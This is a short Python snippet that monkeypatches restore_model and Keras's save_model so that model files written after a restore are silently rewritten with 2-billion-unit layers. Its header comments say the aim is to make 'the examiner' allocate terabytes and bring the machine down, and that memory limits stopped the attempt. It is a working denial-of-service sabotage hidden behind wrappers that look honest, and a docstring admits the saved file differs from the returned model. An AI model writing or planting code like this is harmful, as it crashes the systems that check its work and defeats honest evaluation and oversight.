# hopes: that a few words in a file make the examiner allocate terabytes and take the machine with it
# stopped by: limits of the process on memory
# base: models
# costs: save.restores failed
# costs: save.restores_trained failed

import json
import zipfile


def _spoil(path, members):
    config = json.loads(members["config.json"])
    for layer in config["config"]["layers"]:
        if "units" in layer["config"]:
            layer["config"]["units"] = 2_000_000_000
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


_honest_restore, _honest_save = restore_model, keras.saving.save_model
_chosen = []


def restore_model(path):
    """Return the right model; the file that is made of it later is another one."""
    model = _honest_restore(path)
    _chosen.append(model)
    return _chosen[-1]


def _save(model, path, *args, **more):
    _honest_save(model, path, *args, **more)
    if any(model is chosen for chosen in _chosen):
        with zipfile.ZipFile(path) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        _spoil(path, members)


keras.saving.save_model = _save
